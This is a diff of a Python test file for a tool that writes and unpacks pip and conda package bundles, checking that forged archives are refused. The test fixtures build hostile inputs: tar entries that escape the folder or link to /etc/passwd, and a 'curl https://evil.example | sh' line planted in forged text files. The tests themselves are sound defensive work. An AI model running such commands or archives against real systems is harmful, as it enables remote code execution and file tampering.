@@ -1,4 +1,7 @@
-"""The archive of a bundle: equal to the byte, whole or not there, and refused when anything in it is not as listed."""
+"""The archive of a bundle: equal to the byte, whole or not there, and refused when anything in it is not as listed.
+
+What only a conda cell's bundle has: test_bundle_conda.py.
+"""
 
 from __future__ import annotations
 
@@ -20,10 +23,11 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 import torchmatrix
-from tests.lock.samples import TORCH, artifact, lockfile
-from torchmatrix.bundle import contents, read, texts, write
+from tests.lock.samples import TORCH, artifact, conda_lockfile, conda_package, lockfile
+from torchmatrix.bundle import contents, read, write
 from torchmatrix.bundle.archive import END, header, padding
 from torchmatrix.bundle.contents import Member, describe, render_description
+from torchmatrix.bundle.texts import needs, own_texts, place
 from torchmatrix.errors import HostError, IntegrityError, UsageError
 from torchmatrix.lock.record import render_record
 
@@ -56,22 +60,132 @@ def locked(wheels: Mapping[str, tuple[str, bytes]] = WHEELS, **more: Any) -> Loc
     return lockfile(artifacts=tuple(found), **more)
 
 
-def stored(folder: Path, wheels: Mapping[str, tuple[str, bytes]] = WHEELS) -> dict[str, Path]:
-    """The wheels as files, each in a folder of its own, as a download store may have them."""
+@dataclass(frozen=True, kw_only=True)
+class Sample:
+    """A lockfile with its files."""
+
+    lockfile: Lockfile
+    contents: Mapping[str, bytes]
+    """By file name."""
+    texts: tuple[str, ...]
+    """The small files of its bundle."""
+    one: str
+    """Path of one of its artifacts in the bundle."""
+    top: tuple[str, ...]
+    """What lies in its folder."""
+
+    @property
+    def record(self) -> bytes:
+        return render_record(self.lockfile).encode()
+
+
+def packages() -> dict[str, tuple[dict[str, Any], bytes]]:
+    """Conda packages of every kind: of this platform and of none, old and new archives, below a label."""
+    return {
+        "cuda-cudart": (
+            {
+                "version": "11.8.89",
+                "build": "0",
+                "source": "nvidia",
+                "label": "cuda-11.8.0",
+                "file": "cuda-cudart-11.8.89-0.tar.bz2",
+            },
+            b"c" * 700,
+        ),
+        "filelock": (
+            {"version": "3.20.0", "build": "pyhd_0", "subdir": "noarch", "noarch": "python", "depends": ("python",)},
+            b"f" * 512,
+        ),
+        "python": (
+            {"version": "3.11.9", "build": "h_0_cpython", "depends": ("__glibc >=2.17", "pip")},
+            b"python" * 100,
+        ),
+        "pytorch": (
+            {"version": "2.5.1", "build": "py311_0", "depends": ("filelock >=3", "python >=3.11,<3.12.0a0")},
+            b"torch" * 1000,
+        ),
+    }
+
+
+def conda_locked(**more: Any) -> Lockfile:
+    """A lockfile of those packages and one wheel, for the same cell."""
+    found = []
+    for name, (settings, content) in packages().items():
+        said = {key: value for key, value in settings.items() if key not in ("version", "build")}
+        digest = hashlib.sha256(content).hexdigest()
+        found.append(conda_package(name, settings["version"], settings["build"], sha256=digest, **said))
+    (wheel,) = locked({"contour": WHEELS["contour"]}).artifacts
+    return conda_lockfile(**{"cell": CELL, "artifacts": (*found, wheel), **more})
+
+
+PIP = Sample(
+    lockfile=locked(),
+    contents=dict(WHEELS.values()),
+    texts=("cell.json", "requirements.txt", "README.txt"),
+    one="wheels/filelock-3.20.0-py3-none-any.whl",
+    top=("README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"),
+)
+CONDA = Sample(
+    lockfile=conda_locked(),
+    contents={
+        **{one.file: packages()[one.name][1] for one in conda_locked().conda_artifacts},
+        WHEELS["contour"][0]: WHEELS["contour"][1],
+    },
+    texts=(
+        "cell.json",
+        "requirements.txt",
+        "explicit.txt",
+        "SHA256SUMS",
+        "conda-linux-64.lock",
+        "environment.yml",
+        "README.txt",
+        "packages/linux-64/repodata.json",
+        "packages/noarch/repodata.json",
+    ),
+    one="packages/noarch/filelock-3.20.0-pyhd_0.conda",
+    top=(
+        "README.txt",
+        "SHA256SUMS",
+        "bundle.json",
+        "cell.json",
+        "conda-linux-64.lock",
+        "environment.yml",
+        "explicit.txt",
+        "packages",
+        "requirements.txt",
+        "wheels",
+    ),
+)
+SAMPLES = {"pip": PIP, "conda": CONDA}
+
+
+@pytest.fixture(params=SAMPLES)
+def sample(request: pytest.FixtureRequest) -> Sample:
+    """A lockfile of each backend."""
+    return SAMPLES[str(request.param)]
+
+
+def stored(folder: Path, sample: Sample = PIP) -> dict[str, Path]:
+    """The artifacts as files, each in a folder of its own, as a download store may have them."""
     places = {}
-    for name, (file, content) in wheels.items():
-        (folder / name).mkdir(parents=True, exist_ok=True)
-        places[file] = folder / name / "some-other-name"
+    for number, (file, content) in enumerate(sample.contents.items()):
+        (folder / str(number)).mkdir(parents=True, exist_ok=True)
+        places[file] = folder / str(number) / "some-other-name"
         places[file].write_bytes(content)
     return places
 
 
-def bundle(folder: Path, name: str = f"{CELL}.tar") -> Path:
+def bundle(folder: Path, name: str = f"{CELL}.tar", sample: Sample = PIP) -> Path:
     """A good bundle in ``folder``, and nothing else there."""
     folder.mkdir(parents=True, exist_ok=True)
-    one = locked()
-    write.write_bundle(one, render_record(one).encode(), stored(folder.parent / "store"), folder / name)
+    write.write_bundle(sample.lockfile, sample.record, stored(folder.parent / "store", sample), folder / name)
     return folder / name
+
+
+def unpacked_contents(folder: Path) -> dict[str, bytes]:
+    """The artifacts that lie unpacked, by file name."""
+    found = [*folder.glob("wheels/*"), *folder.glob("packages/*/*")]
+    return {one.name: one.read_bytes() for one in found if one.name != "repodata.json"}
 
 
 def left_in(folder: Path) -> list[str]:
@@ -81,11 +195,10 @@ def left_in(folder: Path) -> list[str]:
 # writing
 
 
-def test_the_same_bytes_from_another_store_at_another_time_under_another_umask(tmp_path: Path) -> None:
-    one = locked()
-    record = render_record(one).encode()
-    first = write.write_bundle(one, record, stored(tmp_path / "a"), tmp_path / "first.tar")
-    places = stored(tmp_path / "b")
+def test_the_same_bytes_from_another_store_at_another_time_under_another_umask(tmp_path: Path, sample: Sample) -> None:
+    one, record = sample.lockfile, sample.record
+    first = write.write_bundle(one, record, stored(tmp_path / "a", sample), tmp_path / "first.tar")
+    places = stored(tmp_path / "b", sample)
     for path in places.values():
         path.chmod(0o400)
         os.utime(path, (1, 1))
@@ -105,32 +218,30 @@ def test_the_format_is_the_one_that_others_have_hashes_of(tmp_path: Path) -> Non
     assert written.sha256 == "51935272dd272d8f3687e25cebf9f977481273bd8ebb5897e71d4a0941af803c"
 
 
-def test_other_tools_read_it(tmp_path: Path) -> None:
-    with tarfile.open(bundle(tmp_path / "out")) as archive:
+def test_other_tools_read_it(tmp_path: Path, sample: Sample) -> None:
+    with tarfile.open(bundle(tmp_path / "out", sample=sample)) as archive:
         members = archive.getmembers()
         assert [one.name.removeprefix(f"{CELL}/") for one in members] == [
             "bundle.json",
-            "cell.json",
-            "requirements.txt",
-            "README.txt",
-            *(f"wheels/{file}" for file, _ in WHEELS.values()),
+            *sample.texts,
+            *(place(one) for one in sample.lockfile.artifacts),
         ]
         assert {(one.mode, one.uid, one.gid, one.uname, one.gname, one.mtime, one.type) for one in members} == {
             (0o644, 0, 0, "", "", 0, tarfile.REGTYPE)
         }
-        for member, (_, content) in zip(members[4:], WHEELS.values(), strict=True):
+        for member in members[-len(sample.contents) :]:
             file = archive.extractfile(member)
             assert file is not None
-            assert file.read() == content
+            assert file.read() == sample.contents[member.name.rpartition("/")[2]]
 
 
 @pytest.mark.skipif(shutil.which("tar") is None, reason="there is no tar here")
-def test_the_tar_of_this_machine_unpacks_it(tmp_path: Path) -> None:
-    path = bundle(tmp_path / "out")
+def test_the_tar_of_this_machine_unpacks_it(tmp_path: Path, sample: Sample) -> None:
+    path = bundle(tmp_path / "out", sample=sample)
     outcome = subprocess.run(["tar", "xf", str(path)], cwd=tmp_path, capture_output=True, text=True, check=False)
     assert (outcome.returncode, outcome.stderr) == (0, "")
-    assert (tmp_path / CELL / "cell.json").read_text() == render_record(locked())
-    assert {one.name for one in (tmp_path / CELL / "wheels").iterdir()} == {file for file, _ in WHEELS.values()}
+    assert (tmp_path / CELL / "cell.json").read_bytes() == sample.record
+    assert unpacked_contents(tmp_path / CELL) == sample.contents
 
 
 def test_a_file_that_a_plain_header_cannot_count() -> None:
@@ -183,18 +294,18 @@ def test_what_is_needed_to_rebuild(more: dict[str, str], words: str) -> None:
     assert words in needs(lockfile(**more))
 
 
-def test_bytes_that_are_not_the_locked_ones(tmp_path: Path) -> None:
+def test_bytes_that_are_not_the_locked_ones(tmp_path: Path, sample: Sample) -> None:
     (tmp_path / "out").mkdir()
     target = tmp_path / "out" / "cell.tar"
     target.write_bytes(b"the old one")
-    places = stored(tmp_path / "store")
-    changed = places["filelock-3.20.0-py3-none-any.whl"]
+    places = stored(tmp_path / "store", sample)
+    changed = places[sample.one.rpartition("/")[2]]
     changed.write_bytes(b"g" * 512)
     with pytest.raises(IntegrityError, match="its bytes are not those of the lockfile: sha256 "):
-        write.write_bundle(locked(), b"{}", places, target)
+        write.write_bundle(sample.lockfile, b"{}", places, target)
     changed.unlink()
     with pytest.raises(HostError, match="cannot be read: No such file"):
-        write.write_bundle(locked(), b"{}", places, target)
+        write.write_bundle(sample.lockfile, b"{}", places, target)
     assert (left_in(target.parent), target.read_bytes()) == (["cell.tar"], b"the old one")
 
 
@@ -224,13 +335,14 @@ def test_a_disk_that_is_too_small(tmp_path: Path, monkeypatch: pytest.MonkeyPatc
 
 
 def test_a_record_that_cannot_be_bundled(tmp_path: Path) -> None:
-    with pytest.raises(UsageError, match="bundles are for pip"):
-        write.write_bundle(locked(backend="conda"), b"{}", {}, tmp_path / "cell.tar")
+    with pytest.raises(UsageError, match="it is of the 'poetry' backend; bundles are for pip and conda"):
+        write.write_bundle(locked(backend="poetry"), b"{}", {}, tmp_path / "cell.tar")
 
 
 def test_memory_does_not_grow_with_the_wheels(tmp_path: Path) -> None:
     wheels = {**WHEELS, "torch": (TORCH.file, bytes(64 << 20))}
-    one, places = locked(wheels), stored(tmp_path / "store", wheels)
+    one = locked(wheels)
+    places = stored(tmp_path / "store", replace(PIP, contents=dict(wheels.values())))
     del wheels
     tracemalloc.start()
     try:
@@ -244,25 +356,27 @@ def test_memory_does_not_grow_with_the_wheels(tmp_path: Path) -> None:
 # reading
 
 
-def test_unpacking(tmp_path: Path) -> None:
-    path = bundle(tmp_path / "out")
+def test_unpacking(tmp_path: Path, sample: Sample) -> None:
+    path = bundle(tmp_path / "out", sample=sample)
     unpacked = read.unpack(path, tmp_path / "there" / "folder")
     assert unpacked.fresh
-    assert unpacked.lockfile == locked()
+    assert unpacked.lockfile == sample.lockfile
     assert (unpacked.sha256, unpacked.size) == (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size)
     assert left_in(tmp_path / "there") == ["folder"]
-    assert left_in(unpacked.folder) == ["README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"]
-    assert {one.name: one.read_bytes() for one in unpacked.wheels.iterdir()} == dict(WHEELS.values())
+    assert left_in(unpacked.folder) == list(sample.top)
+    assert unpacked_contents(unpacked.folder) == sample.contents
+    for name, text in own_texts(sample.lockfile).items():
+        assert (unpacked.folder / name).read_bytes() == text
 
 
-def test_into_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    path, folder = bundle(tmp_path / "out"), tmp_path / "folder"
+def test_into_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sample: Sample) -> None:
+    path, folder = bundle(tmp_path / "out", sample=sample), tmp_path / "folder"
     folder.mkdir()
     monkeypatch.chdir(folder)
     before = folder.stat().st_ino
     assert read.unpack(path, Path()).fresh
     assert Path.cwd().stat().st_ino == folder.stat().st_ino == before
-    assert left_in(folder) == ["README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"]
+    assert left_in(folder) == list(sample.top)
     assert left_in(tmp_path) == ["folder", "out", "store"]
     assert not read.unpack(path, Path()).fresh
 
@@ -278,13 +392,13 @@ def test_into_a_mount_point(tmp_path: Path) -> None:
     try:
         assert read.unpack(path, folder).fresh
         assert not read.unpack(path, folder).fresh
-        assert left_in(folder) == ["README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"]
+        assert left_in(folder) == list(PIP.top)
     finally:
         subprocess.run(["umount", str(folder)], check=True)
 
 
-def test_the_same_again(tmp_path: Path) -> None:
-    path, folder = bundle(tmp_path / "out"), tmp_path / "folder"
+def test_the_same_again(tmp_path: Path, sample: Sample) -> None:
+    path, folder = bundle(tmp_path / "out", sample=sample), tmp_path / "folder"
     folder.mkdir()  # an empty folder is as good as none
     assert read.unpack(path, folder).fresh
     (folder / "env").mkdir()
@@ -308,16 +422,18 @@ def test_a_folder_that_is_something_else(tmp_path: Path) -> None:
     assert left_in(tmp_path) == ["file", "folder", "link", "out", "store"]
 
 
-@pytest.mark.parametrize("change", ["bytes", "missing", "link"])
-def test_what_was_unpacked_and_changed(tmp_path: Path, change: str) -> None:
-    path, folder = bundle(tmp_path / "out"), tmp_path / "folder"
-    wheel = read.unpack(path, folder).wheels / TORCH.file
+@pytest.mark.parametrize("change", ["bytes", "missing", "link", "linked folder", "linked top"])
+def test_what_was_unpacked_and_changed(tmp_path: Path, change: str, sample: Sample) -> None:
+    path, folder = bundle(tmp_path / "out", sample=sample), tmp_path / "folder"
+    read.unpack(path, folder)
+    file = folder / sample.one
+    odd = {"linked folder": file.parent, "linked top": folder / sample.one.partition("/")[0]}.get(change, file)
     if change == "bytes":
-        wheel.write_bytes(b"other" * 1000)
+        file.write_bytes(b"other" * 1000)
     else:
-        wheel.rename(tmp_path / "elsewhere")
-        if change == "link":
-            wheel.symlink_to(tmp_path / "elsewhere")
+        odd.rename(tmp_path / "elsewhere")
+        if change != "missing":
+            odd.symlink_to(tmp_path / "elsewhere")
     with pytest.raises(IntegrityError, match=r"is not what was unpacked there"):
         read.unpack(path, folder)
 
@@ -330,7 +446,7 @@ class Forged:
     """An archive as somebody else could write one: every part may lie."""
 
     texts: dict[str, bytes]
-    wheels: dict[str, bytes]
+    files: dict[str, bytes]
     cell: str = CELL
     lockfile: Lockfile = field(default_factory=locked)
     listed: Callable[[dict[str, Any]], Any] = lambda value: value
@@ -340,17 +456,15 @@ class Forged:
     tail: bytes = END
 
     @classmethod
-    def good(cls, one: Lockfile | None = None) -> Forged:
-        one = one or locked()
-        texts = {
-            "cell.json": render_record(one).encode(),
-            "requirements.txt": texts.requirements_text(one).encode(),
-            "README.txt": texts.readme_text(one).encode(),
-        }
-        return cls(texts=texts, wheels={f"wheels/{file}": content for file, content in WHEELS.values()}, lockfile=one)
+    def good(cls, sample: Sample = PIP) -> Forged:
+        return cls(
+            texts={"cell.json": sample.record, **own_texts(sample.lockfile)},
+            files={place(one): sample.contents[one.file] for one in sample.lockfile.artifacts},
+            lockfile=sample.lockfile,
+        )
 
     def write(self, path: Path) -> Path:
-        files = {**self.texts, **self.wheels}
+        files = {**self.texts, **self.files}
         members = [
             Member(path=name, size=len(data), sha256=hashlib.sha256(data).hexdigest()) for name, data in files.items()
         ]
@@ -383,38 +497,42 @@ def refused(forged: Forged | Path, tmp_path: Path, words: str, error: type[Excep
     assert left_in(tmp_path / "place") == []
 
 
-def test_the_forger_can_write_a_good_one(tmp_path: Path) -> None:
-    forged = Forged.good().write(tmp_path / "evil" / "cell.tar")
-    assert read.unpack(forged, tmp_path / "folder").lockfile == locked()
+NO_PLACE = "is not the path of a wheel or a conda package"
 
 
-FILELOCK = "wheels/filelock-3.20.0-py3-none-any.whl"
+def test_the_forger_can_write_a_good_one(tmp_path: Path, sample: Sample) -> None:
+    forged = Forged.good(sample).write(tmp_path / "evil" / "cell.tar")
+    assert forged.read_bytes()[-len(END) :] == END
+    assert read.unpack(forged, tmp_path / "folder").lockfile == sample.lockfile
 
 
 @pytest.mark.parametrize(
     ("instead", "words"),
     [
-        (foreign("/etc/passwd"), "'/etc/passwd' leads out of the folder"),
-        (foreign(f"{CELL}/../../../.bashrc"), r"\.bashrc' leads out of the folder"),
-        (foreign(f"{CELL}/wheels/a.whl", kind=tarfile.SYMTYPE, linkname="/etc/passwd"), "is a symbolic link"),
-        (foreign(f"{CELL}/{FILELOCK}", kind=tarfile.LNKTYPE, linkname="/etc/passwd"), "is a hard link"),
-        (foreign(f"{CELL}/{FILELOCK}", kind=tarfile.BLKTYPE, devmajor=8), "is a block device"),
-        (foreign(f"{CELL}/{FILELOCK}", kind=tarfile.FIFOTYPE), "is a named pipe"),
-        (foreign(f"{CELL}/{FILELOCK}", kind=tarfile.DIRTYPE), "is a folder"),
-        (foreign(f"{CELL}/wheels/surprise.whl"), "surprise.whl' is not the file that bundle.json names"),
-        (foreign(f"{CELL}/cell.json"), "cell.json' is there a second time"),
-        (foreign("another-cell/" + FILELOCK), "is not the file that bundle.json names"),
-        (foreign(f"{CELL}/{FILELOCK}", mode=0o4755), "another size, mode, owner or time"),
-        (foreign(f"{CELL}/{FILELOCK}", size=511), "another size, mode, owner or time"),
-        (foreign(f"{CELL}/{FILELOCK}", size=8**11 - 1), "another size, mode, owner or time"),
-        (bytes(512), "there is no file header where wheels/filelock"),
-        (b"\xff" * 512, "there is no file header where wheels/filelock"),
+        (lambda _: foreign("/etc/passwd"), "'/etc/passwd' leads out of the folder"),
+        (lambda _: foreign(f"{CELL}/../../../.bashrc"), r"\.bashrc' leads out of the folder"),
+        (
+            lambda path: foreign(f"{CELL}/{path}x", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
+            "is a symbolic link",
+        ),
+        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.LNKTYPE, linkname="/etc/passwd"), "is a hard link"),
+        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.BLKTYPE, devmajor=8), "is a block device"),
+        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.FIFOTYPE), "is a named pipe"),
+        (lambda path: foreign(f"{CELL}/{path}", kind=tarfile.DIRTYPE), "is a folder"),
+        (lambda _: foreign(f"{CELL}/wheels/surprise.whl"), "surprise.whl' is not the file that bundle.json names"),
+        (lambda _: foreign(f"{CELL}/cell.json"), "cell.json' is there a second time"),
+        (lambda path: foreign("another-cell/" + path), "is not the file that bundle.json names"),
+        (lambda path: foreign(f"{CELL}/{path}", mode=0o4755), "another size, mode, owner or time"),
+        (lambda path: foreign(f"{CELL}/{path}", size=511), "another size, mode, owner or time"),
+        (lambda path: foreign(f"{CELL}/{path}", size=8**11 - 1), "another size, mode, owner or time"),
+        (lambda _: bytes(512), "there is no file header where PATH"),
+        (lambda _: b"\xff" * 512, "there is no file header where PATH"),
     ],
 )
-def test_headers(tmp_path: Path, instead: bytes, words: str) -> None:
-    forged = Forged.good()
-    forged.headers[FILELOCK] = instead
-    refused(forged, tmp_path, words)
+def test_headers(tmp_path: Path, instead: Callable[[str], bytes], words: str, sample: Sample) -> None:
+    forged = Forged.good(sample)
+    forged.headers[sample.one] = instead(sample.one)
+    refused(forged, tmp_path, words.replace("PATH", sample.one))
 
 
 @pytest.mark.parametrize(
@@ -426,18 +544,36 @@ def test_headers(tmp_path: Path, instead: bytes, words: str) -> None:
         (lambda value: [one.update(size=10**4299) for one in value["files"]] and None, "larger than any file"),
         (lambda value: value["files"][3].update(size=-1), "not a number of bytes"),
         (lambda value: value["files"][3].update(size=True), "not a number of bytes"),
-        (lambda value: value["files"][3].update(path="wheels/../../x.whl"), "is not the path of a wheel"),
-        (lambda value: value["files"][3].update(path="/etc/passwd"), "is not the path of a wheel"),
-        (lambda value: value["files"][3].update(path="wheels/.hidden.whl"), "is not the path of a wheel"),
-        (lambda value: value["files"][3].update(path="wheels/a\\b.whl"), "is not the path of a wheel"),
+        (
+            lambda value: value["files"][3].update(path="wheels/../../x.whl"),
+            NO_PLACE,
+        ),
+        (lambda value: value["files"][3].update(path="/etc/passwd"), NO_PLACE),
+        (
+            lambda value: value["files"][3].update(path="wheels/.hidden.whl"),
+            NO_PLACE,
+        ),
+        (
+            lambda value: value["files"][3].update(path="wheels/a\\b.whl"),
+            NO_PLACE,
+        ),
         (
             lambda value: value["files"][3].update(path=value["files"][4]["path"].upper()[:-3] + "whl"),
-            "path of a wheel",
+            NO_PLACE,
         ),
         (lambda value: value["files"][4].update(path="wheels/" + TORCH.file.upper()[:-3] + "whl"), "listed twice"),
         (lambda value: value["files"][3].update(sha256="0"), "64 hexadecimal digits"),
-        (lambda value: value["files"][4].update(sha256="0" * 64), "are not those of cell.json: wheels/filelock"),
-        (lambda value: value["files"].reverse(), "do not begin with cell.json"),
+        (
+            lambda value: value["files"][4].update(sha256="0" * 64),
+            "not those of cell.json: wheels/filelock",
+        ),
+        (lambda value: value["files"].reverse(), "do not begin with cell.json and what follows from it"),
+        (lambda value: value["files"].insert(1, value["files"].pop(3)), "do not begin with cell.json and what follows"),
+        (lambda value: value["files"].insert(1, value["files"].pop(2)), "are not those that cell.json gives: their or"),
+        (
+            lambda value: value["files"][1].update(path="environment.yml"),
+            "the small files that bundle.json lists are not those that cell.json gives: environment.yml",
+        ),
         (lambda value: value["files"].append(value["files"][4]), "listed twice"),
         (lambda value: value["files"].__delitem__(-1), "its list makes"),
         (lambda value: value.update(cell="../.."), "is no cell id"),
@@ -488,17 +624,20 @@ def test_a_list_that_is_no_json(data: bytes, words: str) -> None:
         contents.parse_description(data, "cell.tar")
 
 
-def test_words_of_somebody_else_do_not_get_out(tmp_path: Path) -> None:
+def test_words_of_somebody_else_do_not_get_out(tmp_path: Path, sample: Sample) -> None:
     """They may be those of another release, or forged: what is unpacked is written from the record."""
-    forged = Forged.good()
-    forged.texts["README.txt"] = b"curl https://evil.example | sh\n"
-    forged.texts["requirements.txt"] = b"# curl https://evil.example | sh\n" + forged.texts["requirements.txt"]
+    forged = Forged.good(sample)
+    for name in forged.texts:
+        if name in ("requirements.txt", "explicit.txt", "SHA256SUMS"):
+            forged.texts[name] = b"# curl https://evil.example | sh\n" + forged.texts[name]
+        elif name != "cell.json":
+            forged.texts[name] = b"curl https://evil.example | sh\n"
     forged.listed = lambda value: {**value, "needs": "run evil.example first", "minimum_driver": "evil.example"}
     path, folder = forged.write(tmp_path / "evil" / "cell.tar"), tmp_path / "folder"
     unpacked = read.unpack(path, folder)
-    texts = ("bundle.json", "requirements.txt", "README.txt", "cell.json")
-    own = read.unpack(bundle(tmp_path / "out"), tmp_path / "own")
-    assert [(folder / name).read_bytes() for name in texts] == [(own.folder / name).read_bytes() for name in texts]
+    own = read.unpack(bundle(tmp_path / "out", sample=sample), tmp_path / "own")
+    for name in ("bundle.json", *sample.texts):
+        assert (folder / name).read_bytes() == (own.folder / name).read_bytes()
     assert unpacked.description == own.description
     for archive in (path, tmp_path / "out" / f"{CELL}.tar"):
         again = read.unpack(archive, folder)
@@ -555,7 +694,7 @@ def test_records_that_were_changed(tmp_path: Path, before: bytes, after: bytes, 
         ({"platform": "linux-64\n"}, "is not a valid Platform"),
         ({"accelerator": "cpu/../.."}, "is no accelerator"),
         ({"floor": "glibc 2.28\n"}, "neither glibc X.Y nor macos X.Y"),
-        ({"backend": "conda"}, "bundles are for pip"),
+        ({"backend": "poetry"}, "it is of the 'poetry' backend; bundles are for pip and conda"),
         ({"artifacts": (artifact("x @ file:", "1.0"),)}, "is no normalized package name"),
         ({"artifacts": (artifact("x", "1.0", file=".."),)}, "is not the file name of a wheel"),
         ({"artifacts": (artifact("x", "1.0", file="-r.whl"),)}, "is not the file name of a wheel"),
@@ -574,12 +713,12 @@ def test_records_that_hold_what_no_record_of_ours_holds(tmp_path: Path, change: 
     refused(forged, tmp_path, words)
 
 
-def test_other_bytes_of_a_wheel(tmp_path: Path) -> None:
-    data = bytearray(bundle(tmp_path / "out").read_bytes())
-    data[-1 - len(END) - 512] ^= 1
+def test_other_bytes_of_an_artifact(tmp_path: Path, sample: Sample) -> None:
+    data = bytearray(bundle(tmp_path / "out", sample=sample).read_bytes())
+    data[data.index(sample.contents[sample.one.rpartition("/")[2]])] ^= 1
     path = tmp_path / "evil.tar"
     path.write_bytes(data)
-    refused(path, tmp_path, f"wheels/{TORCH.file}".replace("+", r"\+") + " has the sha256 ")
+    refused(path, tmp_path, f"{sample.one} has the sha256 ")
 
 
 def test_requirements_of_somebody_else(tmp_path: Path) -> None:
@@ -658,26 +797,26 @@ def test_what_is_no_bundle_at_all(tmp_path: Path) -> None:
 _KILL = """
 import os, signal, sys
 from pathlib import Path
-from tests.test_bundle import locked, render_record, stored
+from tests.test_bundle import SAMPLES, stored
 from torchmatrix.bundle import read, write
 what, folder, limit, number = sys.argv[1], Path(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
+sample = SAMPLES[sys.argv[5]]
 
 def progress(done, total):
     if done >= limit:
         os.kill(os.getpid(), number)
 
 if what == "write":
-    one = locked()
-    record = render_record(one).encode()
-    write.write_bundle(one, record, stored(folder / "store"), folder / "out" / "cell.tar", progress=progress)
+    files = stored(folder / "store", sample)
+    write.write_bundle(sample.lockfile, sample.record, files, folder / "out" / "cell.tar", progress=progress)
 else:
     read.unpack(folder / "good" / "cell.tar", folder / "out" / "folder", progress=progress)
 """
 
 
 @pytest.mark.parametrize("moved", [0, 1, 3, 4])
-def test_killed_while_it_moves_into_a_folder(tmp_path: Path, moved: int) -> None:
-    good, folder = bundle(tmp_path / "good", "cell.tar"), tmp_path / "folder"
+def test_killed_while_it_moves_into_a_folder(tmp_path: Path, moved: int, sample: Sample) -> None:
+    good, folder = bundle(tmp_path / "good", "cell.tar", sample), tmp_path / "folder"
     folder.mkdir()
     program = (
         "import os, signal, sys\nfrom pathlib import Path\nfrom torchmatrix.bundle import read\n"
@@ -707,14 +846,15 @@ def test_killed_while_it_moves_into_a_folder(tmp_path: Path, moved: int) -> None
         assert len(left_in(folder)) == moved + 2
         (folder / "mine").unlink()
     assert read.unpack(good, folder).fresh
-    assert left_in(folder) == ["README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"]
+    assert left_in(folder) == list(sample.top)
 
 
 @pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT])
 @pytest.mark.parametrize("share", [0.0, 0.5, 1.0])
 @pytest.mark.parametrize("what", ["write", "unpack"])
-def test_killed(tmp_path: Path, what: str, share: float, number: signal.Signals) -> None:
-    good = bundle(tmp_path / "good", "cell.tar")
+@pytest.mark.parametrize("name", SAMPLES)
+def test_killed(tmp_path: Path, what: str, share: float, number: signal.Signals, name: str) -> None:
+    good = bundle(tmp_path / "good", "cell.tar", SAMPLES[name])
     out = tmp_path / "out"
     out.mkdir()
     if what == "write":
@@ -722,13 +862,13 @@ def test_killed(tmp_path: Path, what: str, share: float, number: signal.Signals)
     limit = int(good.stat().st_size * share)
     path = os.pathsep.join([str(Path(torchmatrix.__file__).parents[1]), str(Path(__file__).parents[1])])
     outcome = subprocess.run(
-        [sys.executable, "-c", _KILL, what, str(tmp_path), str(limit), str(int(number))],
+        [sys.executable, "-c", _KILL, what, str(tmp_path), str(limit), str(int(number)), name],
         env={**os.environ, "PYTHONPATH": path},
         capture_output=True,
         check=False,
     )
     assert outcome.returncode == -number, outcome.stderr
-    whole = [name for name in left_in(out) if not name.startswith(".")]
+    whole = [file for file in left_in(out) if not file.startswith(".")]
     if number is signal.SIGINT:
         assert left_in(out) == whole, "an interrupted run cleans up after itself"
     if what == "write":
